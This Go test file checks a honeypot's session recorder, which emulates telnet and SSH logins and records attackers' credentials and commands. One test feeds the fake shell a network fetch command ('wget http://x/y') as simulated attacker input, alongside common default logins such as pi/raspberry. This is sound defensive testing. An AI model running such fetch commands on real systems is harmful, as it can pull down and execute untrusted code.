package capture

import (
	"context"
	"net"
	"testing"
	"time"

	"github.com/honeytrace/honeypot/internal/model"
)

type sessionHarness struct {
	peer    *peer
	record  *Record
	session *Session
	store   *memStore
	notes   *memNotifier
	done    chan struct{}
}

func startSession(t *testing.T, proto model.Protocol, banner string, idle time.Duration) *sessionHarness {
	t.Helper()
	server, client := net.Pipe()
	t.Cleanup(func() { _ = client.Close() })

	store, notes := newMemStore(), &memNotifier{}
	r := NewRecorder(store, notes, testLogger())
	rec := r.CreateRecord(context.Background(), "198.51.100.4", 2323, proto, banner)
	s := NewSession(server, rec, echoEmulator{}, testLogger(), SessionOptions{
		Protocol:    proto,
		Banner:      banner,
		IdleTimeout: idle,
	})

	h := &sessionHarness{peer: newPeer(client), record: rec, session: s, store: store, notes: notes, done: make(chan struct{})}
	go func() {
		defer close(h.done)
		s.Run(context.Background())
	}()
	return h
}

func (h *sessionHarness) wait(t *testing.T) model.AttackRecord {
	t.Helper()
	select {
	case <-h.done:
	case <-time.After(3 * time.Second):
		t.Fatal("session did not finish")
	}
	if h.session.State() != StateClosed {
		t.Fatalf("session ended in state %s", h.session.State())
	}
	recs := h.store.finalized()
	if len(recs) != 1 {
		t.Fatalf("expected exactly one finalized record, got %d", len(recs))
	}
	return recs[0]
}

func TestTelnetLoginAndShell(t *testing.T) {
	h := startSession(t, model.ProtocolTelnet, "Ubuntu 20.04.3 LTS", 0)
	p := h.peer

	p.expect(t, "Ubuntu 20.04.3 LTS")
	p.expect(t, LoginPrompt)
	p.send(t, "admin")
	p.expect(t, PasswordPrompt)
	p.send(t, "1234")
	seen := p.expect(t, ShellPrompt)
	if seen[0] != WelcomeBanner {
		t.Fatalf("expected welcome banner first, got %q", seen)
	}
	p.send(t, "pwd")
	p.expect(t, "/root")
	p.expect(t, ShellPrompt)
	p.send(t, "exit")
	p.expect(t, LogoutLine)
	if rest := p.expectClosed(t); len(rest) != 0 {
		t.Fatalf("unexpected output after logout: %q", rest)
	}

	rec := h.wait(t)
	if rec.Username != "admin" || rec.Password != "1234" {
		t.Fatalf("credentials = %q/%q", rec.Username, rec.Password)
	}
	cmds := rec.CommandLines()
	if len(cmds) != 2 || cmds[0] != "pwd" || cmds[1] != "exit" {
		t.Fatalf("commands = %q", cmds)
	}
	if rec.CloseReason != model.CloseExit || rec.Successful {
		t.Fatalf("unexpected final state %+v", rec)
	}
	if len(h.notes.ofType(model.NotificationSuccess)) != 1 {
		t.Fatal("expected one credentials-captured notification")
	}
}

func TestTelnetShellEmptyLineAndSilentCommand(t *testing.T) {
	h := startSession(t, model.ProtocolTelnet, "banner", 0)
	p := h.peer
	p.expect(t, LoginPrompt)
	p.send(t, "")
	p.send(t, "root")
	p.expect(t, PasswordPrompt)
	p.send(t, "root")
	p.expect(t, ShellPrompt)

	p.send(t, "   ")
	if seen := p.expect(t, ShellPrompt); len(seen) != 1 {
		t.Fatalf("empty line should only reprint the prompt, got %q", seen)
	}
	p.send(t, "cd")
	if seen := p.expect(t, ShellPrompt); len(seen) != 1 {
		t.Fatalf("silent command should only print the prompt, got %q", seen)
	}
	p.send(t, "LOGOUT")
	p.expect(t, LogoutLine)

	rec := h.wait(t)
	if cmds := rec.CommandLines(); len(cmds) != 2 || cmds[0] != "cd" || cmds[1] != "LOGOUT" {
		t.Fatalf("commands = %q", cmds)
	}
}

func TestTelnetDisconnectBeforeLogin(t *testing.T) {
	h := startSession(t, model.ProtocolTelnet, "banner", 0)
	h.peer.expect(t, LoginPrompt)
	_ = h.peer.conn.Close()

	rec := h.wait(t)
	if rec.Username != PlaceholderUsername || rec.Password != PlaceholderPasswordNoData {
		t.Fatalf("placeholders not applied: %+v", rec)
	}
	if rec.CloseReason != model.CloseEOF {
		t.Fatalf("close reason = %q", rec.CloseReason)
	}
}

func TestTelnetDisconnectMidShell(t *testing.T) {
	h := startSession(t, model.ProtocolTelnet, "banner", 0)
	p := h.peer
	p.expect(t, LoginPrompt)
	p.send(t, "pi")
	p.expect(t, PasswordPrompt)
	p.send(t, "raspberry")
	p.expect(t, ShellPrompt)
	p.send(t, "wget http://x/y")
	p.expect(t, ShellPrompt)
	_ = p.conn.Close()

	rec := h.wait(t)
	if rec.Username != "pi" || rec.Password != "raspberry" {
		t.Fatalf("credentials overwritten by finalize: %+v", rec)
	}
	if cmds := rec.CommandLines(); len(cmds) != 1 || cmds[0] != "wget http://x/y" {
		t.Fatalf("commands = %q", cmds)
	}
}

func TestSSHCapturesUsernameThenDisconnect(t *testing.T) {
	h := startSession(t, model.ProtocolSSH, "SSH-2.0-OpenSSH_7.4", 0)
	p := h.peer
	p.expect(t, "SSH-2.0-OpenSSH_7.4")
	p.send(t, "SSH-2.0-libssh_x")
	p.expect(t, SSHIdentification)
	p.send(t, "root")
	_ = p.conn.Close()

	rec := h.wait(t)
	if rec.Username != "root" {
		t.Fatalf("username = %q", rec.Username)
	}
	if rec.Password != PlaceholderPasswordIncomplete {
		t.Fatalf("password = %q, want placeholder", rec.Password)
	}
}

func TestSSHCapturesCredentialPairAndCloses(t *testing.T) {
	h := startSession(t, model.ProtocolSSH, "SSH-2.0-OpenSSH_7.4", 0)
	p := h.peer
	p.expect(t, "SSH-2.0-OpenSSH_7.4")
	p.send(t, "SSH-2.0-Go")
	p.expect(t, SSHIdentification)
	p.send(t, "")
	p.send(t, "ubuntu")
	p.send(t, "probe SSH again")
	p.expect(t, SSHIdentification)
	p.send(t, "hunter2")
	p.expectClosed(t)

	rec := h.wait(t)
	if rec.Username != "ubuntu" || rec.Password != "hunter2" {
		t.Fatalf("credentials = %q/%q", rec.Username, rec.Password)
	}
	if rec.CloseReason != model.CloseCredentialsCaptured {
		t.Fatalf("close reason = %q", rec.CloseReason)
	}
	if len(rec.Commands) != 0 {
		t.Fatalf("ssh session must not record commands: %+v", rec.Commands)
	}
}

func TestIdleTimeoutClosesSession(t *testing.T) {
	h := startSession(t, model.ProtocolTelnet, "banner", 100*time.Millisecond)
	h.peer.expect(t, LoginPrompt)

	rec := h.wait(t)
	if rec.CloseReason != model.CloseIdleTimeout {
		t.Fatalf("close reason = %q", rec.CloseReason)
	}
	if rec.Username != PlaceholderUsername {
		t.Fatalf("username = %q", rec.Username)
	}
}

func TestSessionContinuesWhenStoreFails(t *testing.T) {
	h := startSession(t, model.ProtocolTelnet, "banner", 0)
	h.store.setErr(errStoreDown)
	p := h.peer
	p.expect(t, LoginPrompt)
	p.send(t, "admin")
	p.expect(t, PasswordPrompt)
	p.send(t, "admin")
	p.expect(t, ShellPrompt)

	h.store.setErr(nil)
	p.send(t, "exit")
	p.expect(t, LogoutLine)

	rec := h.wait(t)
	if rec.Username != "admin" || len(rec.Commands) != 1 {
		t.Fatalf("final record incomplete: %+v", rec)
	}
	if len(h.notes.ofType(model.NotificationError)) == 0 {
		t.Fatal("expected persistence error notifications")
	}
}

func TestStateString(t *testing.T) {
	if StateShellInteractive.String() != "SHELL_INTERACTIVE" || StateClosed.String() != "CLOSED" {
		t.Fatal("unexpected state names")
	}
}

func TestTelnetSudoExitLogsOut(t *testing.T) {
	h := startSession(t, model.ProtocolTelnet, "banner", 0)
	p := h.peer
	p.expect(t, LoginPrompt)
	p.send(t, "admin")
	p.expect(t, PasswordPrompt)
	p.send(t, "admin")
	p.expect(t, ShellPrompt)
	p.send(t, "sudo exit")
	p.expect(t, LogoutLine)
	if rest := p.expectClosed(t); len(rest) != 0 {
		t.Fatalf("unexpected output after logout: %q", rest)
	}

	rec := h.wait(t)
	if rec.CloseReason != model.CloseExit {
		t.Fatalf("close reason = %q", rec.CloseReason)
	}
	if cmds := rec.CommandLines(); len(cmds) != 1 || cmds[0] != "sudo exit" {
		t.Fatalf("commands = %q", cmds)
	}
}

func TestIsExitCommand(t *testing.T) {
	cases := map[string]bool{
		"exit":        true,
		"LOGOUT":      true,
		"sudo exit":   true,
		"sudo logout": true,
		"sudo":        false,
		"sudo id":     false,
		"exiting":     false,
		"":            false,
	}
	for line, want := range cases {
		if got := isExitCommand(line); got != want {
			t.Errorf("isExitCommand(%q) = %v, want %v", line, got, want)
		}
	}
}
